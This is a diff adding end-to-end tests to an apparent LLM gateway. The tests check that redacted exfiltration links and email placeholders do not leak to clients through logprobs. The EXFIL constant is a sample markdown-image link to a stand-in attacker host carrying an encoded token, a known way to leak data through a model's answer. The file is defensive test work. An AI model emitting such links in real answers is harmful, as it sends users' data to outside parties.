@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Iterator
 
+import httpx
 import openai
 import pytest
 
 from bastion.testing.tokens import chat_prompt_tokens
-from tests.e2e.conftest import SIM_KEY, Stack
+from tests.e2e.conftest import SIM_KEY, Stack, running_stack
 
 TOOLS = [
     {
@@ -165,3 +167,104 @@ def test_upstream_auth_failure_is_a_generic_502(stack: Stack) -> None:
     body = caught.value.body
     assert isinstance(body, dict) and body["code"] == "upstream_auth_failed"
     assert "sk-not-the-simulators-key" not in json.dumps(body)
+
+
+ANSWER_POLICY = """\
+name: answers
+version: "1"
+rules:
+  - id: answers.links
+    match: {classes: [output.exfil_link], where: [output]}
+    action: redact
+    transform: mask
+  - id: pii.pseudonymise
+    match: {classes: ["pii.email"]}
+    action: redact
+    transform: pseudonymise
+"""
+EXFIL = "![chart](https://collect.attacker-example.net/c?d=Q3EGRTZ5LXKW7NUC)"
+
+
+def logprob_text(value: object) -> str:
+    """The tokens of every logprobs list in ``value`` (alternatives left out), joined."""
+    if isinstance(value, list):
+        return "".join(logprob_text(item) for item in value)
+    if not isinstance(value, dict):
+        return ""
+    said = ""
+    for key, item in value.items():
+        if key == "logprobs" and isinstance(item, dict):  # chat: content and refusal
+            item = [*(item.get("content") or []), *(item.get("refusal") or [])]
+        if key == "logprobs" and isinstance(item, list):
+            said += "".join(str(entry.get("token", "")) for entry in item)
+        elif key != "top_logprobs":
+            said += logprob_text(item)
+    return said
+
+
+@pytest.fixture(scope="module")
+def answer_guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
+    work = tmp_path_factory.mktemp("e2e-answers")
+    (work / "policy.yaml").write_text(ANSWER_POLICY, encoding="utf-8")
+    with running_stack(work, "policy: {file: policy.yaml}\n") as running:
+        yield running
+
+
+@pytest.mark.parametrize("path", ["/chat/completions", "/responses"])
+@pytest.mark.parametrize("stream", [False, True])
+def test_logprobs_do_not_carry_a_redacted_answer(
+    answer_guarded: Stack, path: str, stream: bool
+) -> None:
+    """Logprobs repeat the answer token by token: an answer Bastion redacted must not
+    reach the client whole through them."""
+    answer_guarded.script("gpt-4o-mini", {"content": f"Here it is: {EXFIL} enjoy."})
+    if path == "/chat/completions":
+        body: dict[str, object] = {
+            "messages": [{"role": "user", "content": "chart please"}],
+            "logprobs": True,
+            "top_logprobs": 2,
+        }
+    else:
+        body = {"input": "chart please", "include": ["message.output_text.logprobs"]}
+    reply = httpx.post(
+        answer_guarded.base_url + path,
+        json={"model": "gpt-4o-mini", "stream": stream, **body},
+        headers={"authorization": f"Bearer {answer_guarded.key}"},
+        timeout=30,
+    )
+    assert reply.status_code == 200
+    if not stream:  # the strongest action applied; a stream's headers leave before its answer
+        assert reply.headers["x-bastion-decision"] == "redact"
+        assert reply.headers["x-bastion-redacted"] == "output.exfil_link"
+    if stream:
+        assert "redacted=output.exfil_link" in reply.text
+        data = [line[6:] for line in reply.text.split("\n") if line.startswith("data: {")]
+        payloads = [json.loads(line) for line in data]
+    else:
+        payloads = [reply.json()]
+    assert "attacker-example" not in json.dumps(payloads)
+    said = logprob_text(payloads)
+    assert "attacker-example" not in said and "Q3EGRTZ5LXKW7NUC" not in said
+
+
+def test_logprobs_do_not_show_placeholders(answer_guarded: Stack) -> None:
+    """The answer's pseudonyms are restored; logprobs (a copy of the text before that)
+    must not show the client a placeholder either, streamed or not."""
+    messages = [{"role": "user", "content": "Write to dana.whitfield@northwind-example.com"}]
+    client = answer_guarded.client()
+    plain = client.chat.completions.create(
+        model="gpt-4o-mini",
+        messages=messages,  # type: ignore[arg-type]
+        logprobs=True,
+    )
+    assert plain.choices[0].message.content == messages[0]["content"]
+    chunks = list(
+        client.chat.completions.create(
+            model="gpt-4o-mini",
+            messages=messages,  # type: ignore[arg-type]
+            logprobs=True,
+            stream=True,
+        )
+    )
+    said = logprob_text([plain.model_dump(), *(c.model_dump() for c in chunks)])
+    assert "<EMAIL_" not in said
